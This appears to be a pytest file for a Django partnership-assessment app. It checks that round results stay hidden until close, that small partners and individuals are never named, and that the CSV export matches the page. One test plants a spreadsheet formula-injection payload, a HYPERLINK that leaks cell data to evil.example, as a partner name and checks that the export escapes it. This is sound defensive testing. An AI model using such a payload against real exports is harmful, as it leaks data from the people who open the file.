"""Results of a round: nothing before close, never one person's answers, never a
partner below the minimum group, in the page and the CSV alike."""

from __future__ import annotations

import csv
import html
import io
import re
from typing import Any

import pytest
from django.urls import reverse

from joinedup.web.assessments.models import Round
from joinedup.web.partnerships.models import Member
from tests.factories import World, answer, close, close_by_date, make_round

SMALL = "Riverside Carers"


def _urls(world: World, shown: Round) -> tuple[str, str]:
    args = [world.partnership.slug, shown.pk]
    return reverse("assessments:results", args=args), reverse("assessments:results_csv", args=args)


def _answered(world: World, name: str = "Spring 2026") -> Round:
    """Three respondents each for the acute trust and the council, named; two for a
    small voluntary partner and one for a private one, pooled together (three)."""
    carers = world.partnership.partners.get_or_create(name=SMALL, sector="voluntary")[0]
    homefirst = world.partnership.partners.get_or_create(name="HomeFirst", sector="private")[0]
    people: list[tuple[Member, int]] = [
        (world.partnership.members.get(user=world.owner), 4),
        (world.partnership.members.get(user=world.analyst), 4),
        (world.join("xavier", world.acute), 3),
        (world.partnership.members.get(user=world.member), 1),
        (world.partnership.members.get(user=world.viewer), 2),
        (world.join("yolanda", world.council), 1),
        (world.join("zed", carers), 2),
        (world.join("wanda", carers), 3),
        (world.join("victor", homefirst), 3),
    ]
    shown = make_round(world, name=name)
    for member, score in people:
        others = [p for p in (world.acute, world.council) if p != member.partner]
        level = 4 if member.partner == world.acute else 2
        answer(shown, member, score, levels=dict.fromkeys(others, level))
    return shown


def test_nobody_sees_results_before_the_round_closes(world: World) -> None:
    shown = _answered(world)
    page_url, csv_url = _urls(world, shown)
    for who in ("owner", "member", "analyst", "viewer"):
        client = world.client(who)
        page = client.get(page_url).content.decode()
        assert "The results are shown when the round closes" in page
        assert "Hard-issues agenda" not in page
        assert "Riverside Hospitals" not in page
        assert client.get(csv_url).status_code == 404


def test_after_close_the_results_show_the_agenda_by_partner(world: World) -> None:
    shown = close(_answered(world))
    page = world.client("member").get(_urls(world, shown)[0]).content.decode()
    assert "Hard-issues agenda" in page
    assert "Agreed with more by Riverside Hospitals; less by Riverside County Council" in page
    assert "Partners far apart: Riverside Hospitals 3.67 vs Riverside County Council 1.33." in page
    assert "Other partners" in page
    assert "Riverside Hospitals says 4 of Riverside County Council" in page
    assert "Declared when the round closed: <strong>Coordinating</strong>" in page


def test_a_partner_below_the_minimum_group_is_never_named(world: World) -> None:
    shown = close(_answered(world))
    page_url, csv_url = _urls(world, shown)
    client = world.client("owner")
    page = client.get(page_url).content.decode()
    export = client.get(csv_url).content.decode()
    assert "Riverside Hospitals" in page and "Riverside Hospitals" in export
    for text in (page, export):
        assert SMALL not in text
        assert "HomeFirst" not in text
    groups = {row["group"] for row in csv.DictReader(io.StringIO(export))}
    assert groups == {
        "All respondents",
        "Riverside Hospitals",
        "Riverside County Council",
        "Other partners",
    }


def test_the_csv_holds_the_pages_figures(world: World) -> None:
    shown = close(_answered(world))
    export = world.client("owner").get(_urls(world, shown)[1])
    assert export["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(export.content.decode())))
    trust = {r["group"]: r for r in rows if r["level"] == "principle" and r["id"] == "trust"}
    assert trust["Riverside Hospitals"]["mean"] == "3.67"
    assert trust["Riverside County Council"]["mean"] == "1.33"
    assert trust["All respondents"]["split"] == "yes"
    assert trust["Riverside Hospitals"]["median"] == ""  # the core gives partners n and mean


def test_a_partner_named_like_a_formula_is_text_in_the_csv(world: World) -> None:
    attack = '=HYPERLINK("http://evil.example/?leak="&A2,"Org B")'
    world.acute.name = attack
    world.acute.save()
    shown = close(_answered(world))
    export = world.client("owner").get(_urls(world, shown)[1]).content.decode()
    rows = list(csv.reader(io.StringIO(export)))
    named = [row for row in rows if "'" + attack in row]
    assert named  # the partner's rows are there, as text
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "@"))]


def test_names_and_individual_answers_are_never_shown(world: World) -> None:
    shown = _answered(world)
    yolanda = shown.responses.get(member__user__username="yolanda")
    yolanda.comments.create(principle="trust", text="Nobody says what they think.")
    close(shown)
    page = world.client("owner").get(_urls(world, shown)[0]).content.decode()
    assert "Nobody says what they think." in page
    for name in ("Yolanda", "yolanda", "Xavier", "Zed", "Wanda", "Victor"):
        assert name not in page


def test_too_few_respondents_show_no_results(world: World) -> None:
    shown = make_round(world)
    answer(shown, world.partnership.members.get(user=world.owner), 4)
    answer(shown, world.partnership.members.get(user=world.member), 1)
    close(shown)
    page_url, csv_url = _urls(world, shown)
    page = world.client("owner").get(page_url).content.decode()
    assert "fewer than the round's minimum group" in page
    assert "Hard-issues agenda" not in page
    assert world.client("owner").get(csv_url).status_code == 404


def test_the_change_since_the_previous_round_is_shown(world: World) -> None:
    earlier = close(_answered(world, name="Autumn 2025"))
    later = make_round(world, name="Spring 2026")
    for response in earlier.responses.select_related("member"):
        answer(later, response.member, 4)
    close(later)
    page = world.client("owner").get(_urls(world, later)[0]).content.decode()
    assert "Compared with Autumn 2025" in page
    assert "Riverside County Council +" in page
    first = world.client("owner").get(_urls(world, earlier)[0]).content.decode()
    assert "first closed round" in first


@pytest.mark.parametrize("extra", [0, 12])
# The first read of a round closed by its date freezes its results: reading the
# responses, judging the outcome results, writing the snapshot; once, whatever its size.
# (The first request after logging in also renews the session: an update in a savepoint.)
@pytest.mark.parametrize(
    ("closing", "first"), [(close, 16), (close_by_date, 27)], ids=["by the lead", "by date"]
)
def test_results_take_a_bounded_number_of_queries(
    world: World, django_assert_max_num_queries: Any, extra: int, closing: Any, first: int
) -> None:
    shown = _answered(world)
    for i in range(extra):
        answer(shown, world.join(f"extra{i}", world.council), 2)
    closing(shown)
    client = world.client("owner")
    page_url, csv_url = _urls(world, shown)
    with django_assert_max_num_queries(first):
        assert client.get(page_url).status_code == 200
    with django_assert_max_num_queries(16):
        assert client.get(csv_url).status_code == 200


def test_the_lead_raises_an_action_from_an_agenda_item_and_others_see_no_link(
    world: World,
) -> None:
    shown = close(_answered(world))
    page_url = _urls(world, shown)[0]
    lead_page = world.client("owner").get(page_url).content.decode()
    first = re.search(
        r'href="(/partnerships/riverside/actions/new/\?round=\d+&amp;statement=[^"]+)"', lead_page
    )
    assert first is not None and "Raise an action" in lead_page
    raise_page = world.client("owner").get(html.unescape(first.group(1)))
    assert raise_page.status_code == 200
    assert "Raise an action" in raise_page.content.decode()
    for who in ("member", "viewer"):
        assert "Raise an action" not in world.client(who).get(page_url).content.decode()
